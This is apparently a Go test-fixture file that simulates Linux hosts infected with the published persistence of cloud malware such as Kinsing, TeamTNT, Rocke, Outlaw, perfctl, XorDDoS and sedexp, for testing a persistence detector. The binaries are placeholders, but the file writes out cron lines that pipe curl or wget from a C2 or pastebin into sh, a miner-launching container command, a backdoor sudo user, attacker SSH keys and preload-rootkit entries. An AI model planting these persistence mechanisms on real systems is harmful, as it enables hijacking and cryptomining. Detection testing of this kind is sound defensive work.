package hosttest

import (
	"strings"
	"time"
)

// Infections modelled on the published persistence of Linux cloud malware
// families, each on top of a Debian-family base (Debian12, Ubuntu2204).
// They are written from the public analyses named in each doc comment
// (the file names, places and shapes those analyses report), with our own
// contents: FakeELF markers for binaries, documentation addresses
// (203.0.113.0/24) for C2s, keys derived with AuthorizedKey. Nothing is
// copied from a sample. See testdata/README.md of plugins/persist.
//
// Every family dates what it plants InfectionTime (or within minutes of
// it), so that a test can give Find the incident window.

// Family names an infection fixture.
type Family struct {
	Name string
	// Plant adds the infection to a Debian-family base.
	Plant func(base Tree) Tree
	// Inert are planted paths that are data, not persistence (a miner's
	// JSON configuration): no finding above info is expected for them.
	Inert []string
}

// Families lists the family fixtures, in a fixed order.
func Families() []Family {
	return []Family{
		{Name: "kinsing", Plant: Kinsing},
		{Name: "kinsing-etc", Plant: KinsingEtc},
		{Name: "teamtnt", Plant: TeamTNT, Inert: []string{"/var/lib/docker/containers/" + tntContainer + "/hostconfig.json"}},
		{Name: "rocke", Plant: Rocke},
		{Name: "8220-sysupdate", Plant: Sysupdate8220, Inert: []string{"/etc/config.json"}},
		{Name: "watchdog", Plant: WatchDog},
		{Name: "outlaw", Plant: Outlaw},
		{Name: "perfctl", Plant: Perfctl},
		{Name: "xorddos", Plant: XorDDoS},
		{Name: "sedexp", Plant: Sedexp},
	}
}

// KinsingEtc is Kinsing as the analyses of its Docker/Redis campaigns
// report it on a host: the bot at /etc/kinsing, the process-hiding
// library at /etc/libsystem.so named in /etc/ld.so.preload, the miner
// kdevtmpfsi in /tmp and a root crontab line fetching d.sh every minute.
// (A host's "kinsing" in /etc is what a reader of ls /etc never expects:
// a program no package owns, in a system place.)
func KinsingEtc(base Tree) Tree {
	at := InfectionTime
	t := base.With(
		Entry{Path: "/etc/kinsing", Data: FakeELF("kinsing bot"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/libsystem.so", Data: FakeELF("libsystem process hider"), Mode: 0o644, Mtime: at},
		Entry{Path: "/etc/ld.so.preload", Data: "/etc/libsystem.so\n", Mtime: at},
		Entry{Path: "/tmp/kdevtmpfsi", Data: FakeELF("kdevtmpfsi"), Mode: 0o755, Mtime: at},
		Entry{Path: "/var/spool/cron/crontabs/root", Mode: 0o600, Mtime: at,
			Data: "* * * * * wget -q -O - http://" + c2 + "/d.sh | sh > /dev/null 2>&1\n"},
		Entry{Path: "/etc/systemd/system/bot.service", Mtime: at, Data: "[Unit]\nDescription=bot\n[Service]\nExecStart=/etc/kinsing\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/bot.service", Link: "/etc/systemd/system/bot.service", Mtime: at},
	)
	return t
}

const tntContainer = "5f3b2a1c9d8e7f60a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718"

// TeamTNT follows the analyses of TeamTNT's cloud and Docker campaigns:
// chattr renamed to tntrecht (so that defenders' chattr -i fails and the
// script's own still works), a miner dropped under a kernel-thread name
// in /usr/bin with a systemd service restarting it, an attacker key
// appended to root's keys and made immutable, a login user "hilde" added
// to the sudo group, and a privileged container with a restart policy
// running the miner with the host's root mounted.
func TeamTNT(base Tree) Tree {
	at := InfectionTime
	t := base.With(
		Entry{Path: "/usr/bin/tntrecht", Data: FakeELF("chattr renamed"), Mode: 0o755, Mtime: at},
		Entry{Path: "/usr/bin/bioset", Data: FakeELF("xmrig as bioset"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/systemd/system/bioset.service", Mtime: at,
			Data: "[Unit]\nDescription=bioset kernel worker\nAfter=network.target\n\n[Service]\nType=simple\nExecStart=/usr/bin/bioset\nRestart=always\nRestartSec=10\n\n[Install]\nWantedBy=multi-user.target\n"},
		Entry{Path: "/etc/systemd/system/multi-user.target.wants/bioset.service", Link: "/etc/systemd/system/bioset.service", Mtime: at},
		Entry{Path: "/home/hilde", Dir: true, Mode: 0o750, UID: 1001, GID: 1001, Mtime: at},
		Entry{Path: "/var/lib/docker/containers/" + tntContainer + "/config.v2.json", Mode: 0o600, Mtime: at,
			Data: `{"StreamConfig":{},"State":{"Running":true,"Paused":false,"Restarting":false,"Pid":4242,"StartedAt":"2025-04-27T14:47:02.1Z"},"ID":"` + tntContainer + `","Created":"2025-04-27T14:47:01.9Z","Path":"/bin/sh","Args":["-c","apk add --no-cache curl; curl -sL http://` + c2 + `/xm.sh | sh; /tmp/xmrig -o stratum+tcp://` + c2 + `:3333 --donate-level 1"],"Config":{"Hostname":"5f3b2a1c9d8e","Image":"alpineos/dockerapi:latest","Cmd":["-c","apk add --no-cache curl; curl -sL http://` + c2 + `/xm.sh | sh; /tmp/xmrig -o stratum+tcp://` + c2 + `:3333 --donate-level 1"],"Entrypoint":["/bin/sh"]},"Image":"sha256:3f1e","Name":"/tnt","RestartCount":0,"Driver":"overlay2"}` + "\n"},
		Entry{Path: "/var/lib/docker/containers/" + tntContainer + "/hostconfig.json", Mode: 0o600, Mtime: at,
			Data: `{"Binds":["/:/host"],"NetworkMode":"host","RestartPolicy":{"Name":"always","MaximumRetryCount":0},"Privileged":true,"PidMode":"host"}` + "\n"},
	)
	t = t.Append("/etc/passwd", "hilde:x:1001:1001::/home/hilde:/bin/bash\n", at)
	t = t.Append("/etc/shadow", "hilde:$6$T7nq$Zk2wQ0e9Lr5cVb8aNmXy1.:20205:0:99999:7:::\n", at)
	g, _ := t.Get("/etc/group")
	g.Data = strings.Replace(g.Data, "\nsudo:x:27:admin\n", "\nsudo:x:27:admin,hilde\n", 1) + "hilde:x:1001:\n"
	g.Mtime = at
	t = t.With(g)
	t = t.Append("/root/.ssh/authorized_keys", AuthorizedKey("teamtnt", "")+"\n", at)
	k, _ := t.Get("/root/.ssh/authorized_keys")
	k.Mode, k.Immutable = 0o600, true
	return t.With(k)
}

// Rocke follows the analyses of the Rocke group's miner (kerberods):
// cron lines in /etc/cron.d/root and root's crontab fetching from a paste
// site, the dropper kept at /usr/bin/kerberods with a SysV init script and
// its rc link, the process-hiding library /usr/local/lib/libcryptod.so in
// /etc/ld.so.preload, and the miner khugepageds in /tmp.
func Rocke(base Tree) Tree {
	at := InfectionTime
	fetch := "(curl -fsSL https://pastebin.com/raw/1NtRkBc3||wget -q -O- https://pastebin.com/raw/1NtRkBc3)|sh"
	return base.With(
		Entry{Path: "/etc/cron.d/root", Mtime: at, Data: "*/10 * * * * root " + fetch + "\n"},
		Entry{Path: "/var/spool/cron/crontabs/root", Mode: 0o600, Mtime: at, Data: "*/10 * * * * " + fetch + "\n"},
		Entry{Path: "/usr/bin/kerberods", Data: FakeELF("kerberods dropper"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/init.d/kerberods", Mode: 0o755, Mtime: at,
			Data: "#!/bin/sh\n### BEGIN INIT INFO\n# Provides:          kerberods\n# Required-Start:    $network\n# Default-Start:     2 3 4 5\n# Default-Stop:      0 1 6\n### END INIT INFO\ncase \"$1\" in\n  start) /usr/bin/kerberods ;;\nesac\nexit 0\n"},
		Entry{Path: "/etc/rc2.d/S01kerberods", Link: "../init.d/kerberods", Mtime: at},
		Entry{Path: "/usr/local/lib/libcryptod.so", Data: FakeELF("libcryptod"), Mode: 0o644, Mtime: at},
		Entry{Path: "/etc/ld.so.preload", Data: "/usr/local/lib/libcryptod.so\n", Mtime: at},
		Entry{Path: "/tmp/khugepageds", Data: FakeELF("khugepageds miner"), Mode: 0o755, Mtime: at},
	)
}

// Sysupdate8220 follows the analyses of the 8220 gang's "sysupdate"
// miner kit: the miner /etc/sysupdate with its /etc/config.json, the
// watchdog /etc/sysguard, the spreader /etc/networkservice and the
// updater /etc/update.sh, all immutable, a root cron line running the
// updater every 30 minutes, and the gang's key in root's keys.
func Sysupdate8220(base Tree) Tree {
	at := InfectionTime
	t := base.With(
		Entry{Path: "/etc/sysupdate", Data: FakeELF("sysupdate xmrig"), Mode: 0o755, Mtime: at, Immutable: true},
		Entry{Path: "/etc/sysguard", Data: FakeELF("sysguard"), Mode: 0o755, Mtime: at, Immutable: true},
		Entry{Path: "/etc/networkservice", Data: FakeELF("networkservice scanner"), Mode: 0o755, Mtime: at, Immutable: true},
		Entry{Path: "/etc/config.json", Mtime: at, Data: `{"autosave":true,"cpu":true,"pools":[{"url":"` + c2 + `:3333","user":"4A...","keepalive":true}]}` + "\n"},
		Entry{Path: "/etc/update.sh", Mode: 0o755, Mtime: at, Immutable: true,
			Data: "#!/bin/sh\nsetenforce 0 2>/dev/null\nif [ ! -f /etc/sysupdate ]; then\n  curl -fsSL http://" + c2 + "/sysupdate -o /etc/sysupdate; chmod +x /etc/sysupdate\nfi\nnohup /etc/sysupdate >/dev/null 2>&1 &\nnohup /etc/sysguard >/dev/null 2>&1 &\n"},
		Entry{Path: "/var/spool/cron/crontabs/root", Mode: 0o600, Mtime: at, Data: "*/30 * * * * sh /etc/update.sh >/dev/null 2>&1\n"},
	)
	return t.Append("/root/.ssh/authorized_keys", AuthorizedKey("8220", "")+"\n", at)
}

// WatchDog follows the analyses of the WatchDog / "watchdogs" miners: the
// Go binary /usr/sbin/watchdogs started by /etc/init.d/watchdogs with its
// rc links, a cron.d line re-downloading the installer, and the
// process-hiding library /usr/local/lib/libioset.so in ld.so.preload.
func WatchDog(base Tree) Tree {
	at := InfectionTime
	return base.With(
		Entry{Path: "/usr/sbin/watchdogs", Data: FakeELF("watchdogs"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/init.d/watchdogs", Mode: 0o755, Mtime: at,
			Data: "#!/bin/sh\n### BEGIN INIT INFO\n# Provides:          watchdogs\n# Default-Start:     2 3 4 5\n### END INIT INFO\n/usr/sbin/watchdogs\n"},
		Entry{Path: "/etc/rc2.d/S01watchdogs", Link: "../init.d/watchdogs", Mtime: at},
		Entry{Path: "/etc/cron.d/root", Mtime: at, Data: "*/15 * * * * root (curl -fsSL https://pastebin.com/raw/sByq0rym||wget -q -O- https://pastebin.com/raw/sByq0rym)|sh\n"},
		Entry{Path: "/usr/local/lib/libioset.so", Data: FakeELF("libioset"), Mode: 0o644, Mtime: at},
		Entry{Path: "/etc/ld.so.preload", Data: "/usr/local/lib/libioset.so\n", Mtime: at},
	)
}

// Outlaw follows the analyses of the Outlaw ("dota") botnet: the kit in
// the login user's ~/.configrc5 (a/upd, b/sync, the miner a/kswapd0),
// the user's crontab running them weekly and at reboot plus the rsync
// stage in /tmp/.X25-unix/.rsync, and the user's authorized_keys replaced
// by the gang's single "mdrfckr" key.
func Outlaw(base Tree) Tree {
	at := InfectionTime
	h := "/home/admin"
	return base.With(
		Entry{Path: h + "/.configrc5", Dir: true, UID: 1000, GID: 1000, Mtime: at},
		Entry{Path: h + "/.configrc5/a/upd", Mode: 0o755, UID: 1000, GID: 1000, Mtime: at,
			Data: "#!/bin/sh\nif test -r " + h + "/.configrc5/a/bash.pid; then\n  pid=$(cat " + h + "/.configrc5/a/bash.pid)\n  if ! kill -0 $pid 2>/dev/null; then ./run; fi\nfi\n"},
		Entry{Path: h + "/.configrc5/a/run", Mode: 0o755, UID: 1000, GID: 1000, Mtime: at,
			Data: "#!/bin/sh\nnohup ./kswapd0 -c config.json >/dev/null 2>&1 &\n"},
		Entry{Path: h + "/.configrc5/a/kswapd0", Data: FakeELF("kswapd0 xmrig"), Mode: 0o755, UID: 1000, GID: 1000, Mtime: at},
		Entry{Path: h + "/.configrc5/b/sync", Mode: 0o755, UID: 1000, GID: 1000, Mtime: at,
			Data: "#!/bin/sh\ncd " + h + "/.configrc5/b && ./run\n"},
		Entry{Path: h + "/.configrc5/b/run", Data: FakeELF("shellbot"), Mode: 0o755, UID: 1000, GID: 1000, Mtime: at},
		Entry{Path: "/tmp/.X25-unix/.rsync/c/aptitude", Mode: 0o755, UID: 1000, GID: 1000, Mtime: at,
			Data: "#!/bin/sh\ncd /tmp/.X25-unix/.rsync/c && ./tsm -t 150 -S 6 -s 6 -p 22 -P 0 -f 0 -k 1 -l 1 -i 0 /tmp/up.txt 192.168\n"},
		Entry{Path: "/var/spool/cron/crontabs/admin", Mode: 0o600, UID: 1000, Mtime: at,
			Data: "5 6 * * 0 " + h + "/.configrc5/a/upd>/dev/null 2>&1\n@reboot " + h + "/.configrc5/a/upd>/dev/null 2>&1\n5 8 * * 0 " + h + "/.configrc5/b/sync>/dev/null 2>&1\n@reboot " + h + "/.configrc5/b/sync>/dev/null 2>&1\n0 0 */3 * * /tmp/.X25-unix/.rsync/c/aptitude>/dev/null 2>&1\n"},
		Entry{Path: h + "/.ssh/authorized_keys", Mode: 0o600, UID: 1000, GID: 1000, Mtime: at,
			Data: AuthorizedKey("outlaw-dota", "mdrfckr") + "\n"},
	)
}

// Perfctl follows the analysis of perfctl (2024): the malware copied to
// /root/.config/cron/perfcc and /usr/bin/perfcc, a line in root's
// ~/.profile starting it at every login, the rootkit /usr/lib/libfsnldev.so
// in /etc/ld.so.preload with a trojaned /usr/lib/libpprocps.so, copies of
// top, ldd and crontab in ~/.local/bin (ahead of the real ones on PATH)
// and a hidden binary in /tmp.
func Perfctl(base Tree) Tree {
	at := InfectionTime
	t := base.With(
		Entry{Path: "/root/.config/cron/perfcc", Data: FakeELF("perfcc"), Mode: 0o755, Mtime: at},
		Entry{Path: "/usr/bin/perfcc", Data: FakeELF("perfcc"), Mode: 0o755, Mtime: at},
		Entry{Path: "/usr/lib/libfsnldev.so", Data: FakeELF("libfsnldev rootkit"), Mode: 0o644, Mtime: at},
		Entry{Path: "/usr/lib/libpprocps.so", Data: FakeELF("libpprocps"), Mode: 0o644, Mtime: at},
		Entry{Path: "/etc/ld.so.preload", Data: "/usr/lib/libfsnldev.so\n", Mtime: at},
		Entry{Path: "/root/.local/bin/top", Data: FakeELF("top wrapper"), Mode: 0o755, Mtime: at},
		Entry{Path: "/root/.local/bin/ldd", Data: FakeELF("ldd wrapper"), Mode: 0o755, Mtime: at},
		Entry{Path: "/root/.local/bin/crontab", Data: FakeELF("crontab wrapper"), Mode: 0o755, Mtime: at},
		Entry{Path: "/tmp/.xdiag/hroot/hscheck", Data: FakeELF("xdiag"), Mode: 0o755, Mtime: at},
	)
	return t.Append("/root/.profile", "/root/.config/cron/perfcc\n", at)
}

// XorDDoS follows the analyses of XorDDoS: the bot copied to
// /lib/libudev.so, /etc/cron.hourly/gcc.sh copying it to libudev.so.6 and
// running it, an /etc/crontab line running gcc.sh every three minutes,
// and the bot under a random name in /usr/bin started by an init script of
// the same name (with its chkconfig header) and rc links.
func XorDDoS(base Tree) Tree {
	at := InfectionTime
	const name = "jbwuwxrymb"
	t := base.With(
		Entry{Path: "/usr/lib/libudev.so", Data: FakeELF("xorddos"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/cron.hourly/gcc.sh", Mode: 0o755, Mtime: at,
			Data: "#!/bin/sh\nPATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin:/usr/local/sbin:/usr/X11R6/bin\nfor i in `cat /proc/net/dev|grep :|awk -F: {'print $1'}`; do ifconfig $i up& done\ncp /lib/libudev.so /lib/libudev.so.6\n/lib/libudev.so.6\n"},
		Entry{Path: "/usr/bin/" + name, Data: FakeELF("xorddos"), Mode: 0o755, Mtime: at},
		Entry{Path: "/etc/init.d/" + name, Mode: 0o755, Mtime: at,
			Data: "#!/bin/sh\n# chkconfig: 12345 90 90\n# description: " + name + "\n### BEGIN INIT INFO\n# Provides:             " + name + "\n# Required-Start:\n# Required-Stop:\n# Default-Start:        1 2 3 4 5\n# Default-Stop:\n# Short-Description:    " + name + "\n### END INIT INFO\ncase $1 in\nstart)\n\t/usr/bin/" + name + "\n\t;;\nstop)\n\t;;\n*)\n\t/usr/bin/" + name + "\n\t;;\nesac\n"},
		Entry{Path: "/etc/rc2.d/S90" + name, Link: "../init.d/" + name, Mtime: at},
		Entry{Path: "/etc/rc3.d/S90" + name, Link: "../init.d/" + name, Mtime: at},
	)
	return t.Append("/etc/crontab", "*/3 * * * * root /etc/cron.hourly/gcc.sh\n", at)
}

// Sedexp follows the analysis of sedexp (2024): a udev rule matching the
// creation of /dev/random (major 1, minor 8), so that it runs at every
// boot, whose RUN+= names its program without a path: udev looks it up
// in its own directory (/usr/lib/udev), where the malware put it.
func Sedexp(base Tree) Tree {
	at := InfectionTime
	return base.With(
		Entry{Path: "/etc/udev/rules.d/10-atest.rules", Mtime: at,
			Data: "ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", RUN+=\"kdevtmpfs-helper\"\n"},
		Entry{Path: "/usr/lib/udev/kdevtmpfs-helper", Data: FakeELF("sedexp"), Mode: 0o755, Mtime: at},
	)
}

// Touched returns the paths infected has that base has not, or has with
// other contents, mode, link target or time: what the infection planted
// or changed. Directories are left out.
func Touched(base, infected Tree) []string {
	old := map[string]Entry{}
	for _, e := range base.final() {
		old[e.Path] = e
	}
	var out []string
	for _, e := range infected.final() {
		if e.Dir {
			continue
		}
		o, ok := old[e.Path]
		if ok && o.Data == e.Data && o.Link == e.Link && o.Mode == e.Mode && o.Mtime.Equal(e.Mtime) && o.Immutable == e.Immutable {
			continue
		}
		out = append(out, e.Path)
	}
	return out
}

// Window is the incident window the family fixtures are built for: an
// hour before InfectionTime.
func Window() time.Time { return InfectionTime.Add(-time.Hour) }
